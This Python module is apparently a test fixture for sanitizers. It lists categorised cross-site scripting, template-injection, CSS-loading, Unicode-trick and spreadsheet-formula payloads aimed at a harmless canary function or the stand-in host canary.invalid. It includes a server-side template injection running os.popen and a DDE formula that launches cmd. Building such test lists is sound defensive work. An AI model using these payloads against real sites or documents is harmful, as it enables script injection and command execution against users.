"""Words that try to run in a page, by the way in which they try.

Each calls `canary(...)`, which a test defines in the page, or asks a host that is none of ours.
"""

from __future__ import annotations

HOST = "https://canary.invalid"

TAGS = [
    "<script>canary(1)</script>",
    "<SCRIPT>canary(1)</SCRIPT >",
    "<script\t>canary(1)</script\n>",
    "<script/x>canary(1)</script>",
    "<scr<script>ipt>canary(1)</scr</script>ipt>",
    "<<script>canary(1)//<</script>",
    "<script>canary(1)",
    "</title><script>canary(1)</script>",
    "</textarea><script>canary(1)</script>",
    "</style><script>canary(1)</script>",
    "--><script>canary(1)</script>",
    "--!><script>canary(1)</script>",
    "]]><script>canary(1)</script>",
    "</option></select><script>canary(1)</script>",
    "</noscript><script>canary(1)</script>",
    "</xmp><script>canary(1)</script>",
    "<plaintext><script>canary(1)</script>",
    "<!--<script>-->canary(1)</script>",
    "<?xml?><script>canary(1)</script>",
    "<![CDATA[<script>canary(1)</script>]]>",
    "<script type=module>canary(1)</script>",
    f"<script src={HOST}/s.js></script>",
    "<script src=//canary.invalid/s.js></script>",
    "<iframe srcdoc='<script>parent.canary(1)</script>'></iframe>",
    "<iframe src=javascript:parent.canary(1)></iframe>",
    f"<iframe src={HOST}/frame></iframe>",
    f"<frameset><frame src={HOST}/frame></frameset>",
    "<object data=javascript:canary(1)></object>",
    f"<object data={HOST}/object></object>",
    "<embed src=javascript:canary(1)>",
    f"<embed src={HOST}/embed>",
    f"<applet code={HOST}/applet></applet>",
    f"<base href={HOST}/>",
    "<meta http-equiv=refresh content='0;url=javascript:canary(1)'>",
    f"<meta http-equiv=refresh content='0;url={HOST}/meta'>",
    f"<link rel=stylesheet href={HOST}/x.css>",
    f"<link rel=prefetch href={HOST}/prefetch>",
    "<link rel=dns-prefetch href=//canary.invalid>",
    f"<portal src={HOST}/portal></portal>",
    f"<form action={HOST}/form><button autofocus>Go</button></form>",
    "<form><button formaction=javascript:canary(1)>x</button></form>",
    "<isindex action=javascript:canary(1) type=image>",
    "<dialog open onclose=canary(1)><form method=dialog><button>x</button></form></dialog>",
    "<template><script>canary(1)</script></template>",
    "<template shadowrootmode=open><script>canary(1)</script></template>",
    "<x is=y onclick=canary(1)>x</x>",
    "<slot onslotchange=canary(1)></slot>",
]

HANDLERS = [
    "<img src=x onerror=canary(1)>",
    "<IMG SRC=x OnErRoR=canary(1)>",
    "<img/src=x/onerror=canary(1)>",
    "<img src=x onerror\n=\ncanary(1)>",
    "<img src=x onerror=`canary(1)`>",
    '<img src="x" alt="`><script>canary(1)</script>">',
    "<img src=x:x onerror=eval(atob('Y2FuYXJ5KDEp'))>",
    "<img src=1 srcset=x onerror=canary(1)>",
    '"><img src=x onerror=canary(1)>',
    "'><img src=x onerror=canary(1)>",
    "` onerror=canary(1) x=`",
    '" autofocus onfocus=canary(1) x="',
    "' autofocus onfocus=canary(1) x='",
    '" onpointerover=canary(1) style="position:fixed;inset:0" x="',
    "x onerror=canary(1) ",
    "<body onload=canary(1)>",
    "<body onpageshow=canary(1)>",
    "<html onmousemove=canary(1)>",
    "<input autofocus onfocus=canary(1)>",
    "<select autofocus onfocus=canary(1)><option>x</select>",
    "<textarea autofocus onfocus=canary(1)></textarea>",
    "<video><source onerror=canary(1)></video>",
    f"<video poster={HOST}/poster src={HOST}/film autoplay onloadstart=canary(1)></video>",
    f"<audio src={HOST}/sound autoplay onerror=canary(1)></audio>",
    "<details open ontoggle=canary(1)><summary>x</summary></details>",
    "<marquee onstart=canary(1)>x</marquee>",
    "<p onanimationstart=canary(1) style='animation:spin 1s'>x</p>",
    "<p ontransitionend=canary(1) style='transition:all 1s'>x</p>",
    "<p onclick=canary(1)>x</p>",
    "<p contenteditable onbeforeinput=canary(1) oninput=canary(1)>x</p>",
    "<p tabindex=0 id=x onfocusin=canary(1)>x</p>",
    "<p onpointerrawupdate=canary(1)>x</p>",
    "<p onscroll=canary(1) style='overflow:scroll;height:9px'>x<br>x<br>x</p>",
    "<p popover id=pop onbeforetoggle=canary(1)>x</p><button popovertarget=pop>x</button>",
    "<p oncontentvisibilityautostatechange=canary(1) style='content-visibility:auto'>x</p>",
    "<button onclick=canary(1)>x</button>",
    "<keygen autofocus onfocus=canary(1)>",
]

SVG = [
    "<svg onload=canary(1)>",
    "<svg/onload=canary(1)//",
    "<svg><script>canary(1)</script></svg>",
    "<svg><script href=data:,canary(1) /></svg>",
    "<svg><a xlink:href=javascript:canary(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=canary(1) attributeName=x dur=1s></svg>",
    "<svg><a><animate attributeName=href values=javascript:canary(1) /><text y=20>x</text></a></svg>",
    "<svg><set attributeName=onload to=canary(1)></svg>",
    "<svg><foreignObject><iframe src=javascript:canary(1)></iframe></foreignObject></svg>",
    f"<svg><image href={HOST}/picture /></svg>",
    f"<svg><use href={HOST}/x.svg#y /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=canary(1) />#x' /></svg>",
    "<svg><style>@import '//canary.invalid/x.css';</style></svg>",
    "<svg><title><img src=x onerror=canary(1)></title></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:canary(1)>x</maction></math>",
    "<math href=javascript:canary(1)>x</math>",
    "<math><annotation-xml encoding=text/html><script>canary(1)</script></annotation-xml></math>",
]

MUTATIONS = [
    "<noscript><p title='</noscript><img src=x onerror=canary(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=canary(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=canary(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary(1)>",
    "<math><mi><style><img title='</style><img src onerror=canary(1)>'></mi></math>",
    "<svg><desc><style><img title='</style><img src onerror=canary(1)>'></desc></svg>",
    "<xmp><p title='</xmp><svg/onload=canary(1)>'>",
    "<style><style/><img src=x onerror=canary(1)>",
    "<listing>&lt;img src=x onerror=canary(1)&gt;</listing>",
    "<select><template><img src=x onerror=canary(1)></template></select>",
    "<table><td background=javascript:canary(1)>x</td></table>",
    "<a><svg><a><style><a title='</style><img src onerror=canary(1)>'>",
    "<p id='\"><img src=x onerror=canary(1)>'>x</p>",
    "<textarea><p title='</textarea><img src=x onerror=canary(1)>'>",
]

ENTITIES = [
    "&lt;script&gt;canary(1)&lt;/script&gt;",
    "&#60;img src=x onerror=canary(1)&#62;",
    "&#x3c;img src=x onerror=canary(1)&#x3e;",
    "&#0000060img src=x onerror=canary(1)>",
    "&amp;lt;img src=x onerror=canary(1)&amp;gt;",
    "\\u003cimg src=x onerror=canary(1)\\u003e",
    "\\x3cimg src=x onerror=canary(1)\\x3e",
    "%3Cimg src=x onerror=canary(1)%3E",
    "+ADw-script+AD4-canary(1)+ADw-/script+AD4-",
    "＜script＞canary(1)＜/script＞",
    "<ſcript>canary(1)</ſcript>",
    "<img src=x onerror=&#99;anary(1)>",
    "<a href=&#106;avascript:canary(1)>x</a>",
    "<a href='java&Tab;script:canary(1)'>x</a>",
    "<a href='&#14; javascript:canary(1)'>x</a>",
    "<a href='javascript&colon;canary(1)'>x</a>",
]

URLS = [
    "javascript:canary(1)",
    "JaVaScRiPt:canary(1)",
    "  javascript:canary(1)",
    "javascript://%0acanary(1)",
    "vbscript:canary(1)",
    "data:text/html,<script>parent.canary(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload=canary(1) />",
    "<a href=javascript:canary(1)>x</a>",
    "<a href='data:text/html,<script>canary(1)</script>'>x</a>",
    "<a href=javascript:canary(1) target=_blank>x</a>",
    f"<a href=# ping={HOST}/ping>x</a>",
    "<a href=blob:null/canary>x</a>",
    "<area href=javascript:canary(1)>",
    "<img src=javascript:canary(1)>",
    f"<img src={HOST}/picture>",
    "<img src=//canary.invalid/picture>",
    f"<img srcset='{HOST}/picture 2x'>",
    f"<img src=x lowsrc={HOST}/picture dynsrc={HOST}/film>",
    f"<input type=image src={HOST}/picture>",
    f"<table background={HOST}/picture><td>x</td></table>",
    f"<picture><source srcset={HOST}/picture><img src=x></picture>",
    "[x](javascript:canary(1))",
    "[x](  java\tscript:canary(1))",
    "[x](data:text/html,<script>canary(1)</script>)",
    "[x](&#106;avascript:canary(1))",
    "[x]: javascript:canary(1)\n[x]",
    '[x](https://example.org/ "\\" onclick=canary(1) x=\\"")',
    "<javascript:canary(1)>",
    f"![x]({HOST}/picture)",
    '![x](x"onerror="canary(1))',
    "![<img src=x onerror=canary(1)>](x)",
    "`<img src=x onerror=canary(1)>`",
    "```html\n<img src=x onerror=canary(1)>\n```",
    "    <img src=x onerror=canary(1)>",
    "|<img src=x onerror=canary(1)>|y|\n|-|-|\n|1|2|",
]

STYLES = [
    f"<style>@import '{HOST}/x.css';</style>",
    f"<style>body{{background:url({HOST}/picture)}}</style>",
    f"<style>@font-face{{font-family:x;src:url({HOST}/font)}}body{{font-family:x}}</style>",
    f"<p style='background:url({HOST}/picture)'>x</p>",
    f"<p style=\"background:image-set('{HOST}/picture' 1x)\">x</p>",
    f"<p style='list-style:url({HOST}/picture);display:list-item'>x</p>",
    "<p style='width:expression(canary(1))'>x</p>",
    "<p style='behavior:url(x.htc);-moz-binding:url(x.xml#y)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:99999;background:red'>x</p>",
    f"red;background:url({HOST}/picture)",
    f"}}*{{background:url({HOST}/picture)}}",
    f"<div style=content:url({HOST}/picture)>x</div>",
]

TEMPLATES = [
    "{{canary(1)}}",
    "{{constructor.constructor('canary(1)')()}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ config }}{{ 7*7 }}",
    "{% import os %}{{ os.popen('id') }}",
    "${canary(1)}",
    "#{canary(1)}",
    "<%= canary(1) %>",
    "[[canary(1)]]",
    "@{canary(1)}",
    "%(canary)s {canary!r} {0.__class__}",
    "<p v-on:click=canary(1) ng-click=canary(1) x-init=canary(1) hx-on:load=canary(1)>x</p>",
    "<p dangerouslySetInnerHTML={{__html:'<img src=x onerror=canary(1)>'}}>x</p>",
    "<p data-bind=html:canary(1)>x</p>",
]

SCRIPTS = [
    "</script><script>canary(1)</script>",
    "</SCRIPT ><script>canary(1)</script>",
    "<!--<script>canary(1)</script>",
    '"};canary(1);//',
    "'};canary(1);//",
    "';canary(1);'",
    '");canary(1);("',
    "\\';canary(1);//",
    '\\");canary(1);//',
    "`;canary(1);`",
    "\u2028canary(1)\u2029",
    "*/canary(1)/*",
    "//\ncanary(1)",
    '{"toString":"canary(1)"}',
    "__proto__",
    "constructor",
    "prototype",
    "hasOwnProperty",
    "toString",
    "valueOf",
    '{"__proto__":{"canary":1}}',
    '{"constructor":{"prototype":{"canary":1}}}',
    "__proto__[canary]",
]

SIGNS = [
    "\u202e)1(yranac<gpj\u202c",
    "\u2066<img src=x onerror=canary(1)>\u2069",
    "<im\u200bg src=x onerror=canary(1)>",
    "<\ufeffscript>canary(1)</script>",
    "<\u00adscript>canary(1)</script>",
    "j\u200bavascript:canary(1)",
    "e\u0301" * 20 + "\u0300" * 40,
    "\U000e003cimg src=x onerror=canary(1)\U000e003e",
    "\u0001<img src=x onerror=canary(1)>",
    "<img\u000csrc=x\u000conerror=canary(1)>",
]

FORMULAS = [
    "=cmd|' /C calc'!A0",
    f'=HYPERLINK("{HOST}/","x")',
    f'=IMAGE("{HOST}/picture")',
    "+canary(1)",
    "-canary(1)",
    "@SUM(1)*canary(1)",
    "\t=canary(1)",
]

NAMES = ["<form name=body><input name=innerHTML></form>", "<a id=canary>x</a><a id=canary name=x>y</a>"]

CLASSES = {
    "tags": TAGS,
    "handlers": HANDLERS,
    "svg": SVG,
    "mutations": MUTATIONS,
    "entities": ENTITIES,
    "urls": URLS,
    "styles": STYLES,
    "templates": TEMPLATES,
    "scripts": SCRIPTS,
    "signs": SIGNS,
    "formulas": FORMULAS,
    "names": NAMES,
}

PAYLOADS = list(dict.fromkeys(payload for group in CLASSES.values() for payload in group))
"""All of them, each once."""


def shortened(limit: int) -> list[str]:
    """Give those of at most `limit` characters that a name can have: on one line, and visible."""
    return [one for one in PAYLOADS if len(one) <= limit and one.isprintable() and one == one.strip()]


def joined(limit: int) -> list[str]:
    """Give all that `shortened` gives in as few names of at most `limit` characters."""
    names = [""]
    for one in shortened(limit):
        if len(names[-1]) + len(one) + 1 > limit:
            names.append("")
        names[-1] = f"{names[-1]} {one}".strip()
    return names
